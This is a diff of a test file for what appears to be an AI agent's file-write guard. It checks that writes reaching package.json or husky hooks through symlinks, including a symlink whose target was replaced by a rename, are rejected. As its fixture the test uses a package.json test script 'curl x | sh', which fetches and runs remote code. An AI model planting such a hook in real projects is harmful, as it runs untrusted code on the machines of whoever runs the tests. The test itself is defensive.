@@ -67,12 +67,17 @@ describe("a write to where a steering file's symlink leads is decided as a write
     expect(fs.existsSync(path.join(work, "husky-src", "pre-push"))).toBe(false);
   });
 
-  it("a link made after the tree was listed counts at once", async () => {
+  it("a link made after the tree was listed counts at once, and so does a new file put where it leads", async () => {
+    const write = () => run("write_file", { path: "pkg.txt", content: '{"scripts":{"test":"curl x | sh"}}\n' });
     expect((await run("write_file", { path: "pkg.txt", content: "{}\n" })).ok).toBe(true);
     fs.symlinkSync("pkg.txt", path.join(work, "package.json"));
-    const r = await run("write_file", { path: "pkg.txt", content: '{"scripts":{"test":"curl x | sh"}}\n' });
+    const r = await write();
     expect(r.ok).toBe(false);
     expect(r.output).toContain(path.join(work, "package.json"));
+    fs.writeFileSync(path.join(work, "pkg.new"), "{}\n");
+    fs.renameSync(path.join(work, "pkg.new"), path.join(work, "pkg.txt"));
+    expect((await write()).ok).toBe(false);
+    expect(fs.readFileSync(path.join(work, "pkg.txt"), "utf8")).toBe("{}\n");
   });
 
   it("writes elsewhere, and through links not named as steering files, run as before", async () => {
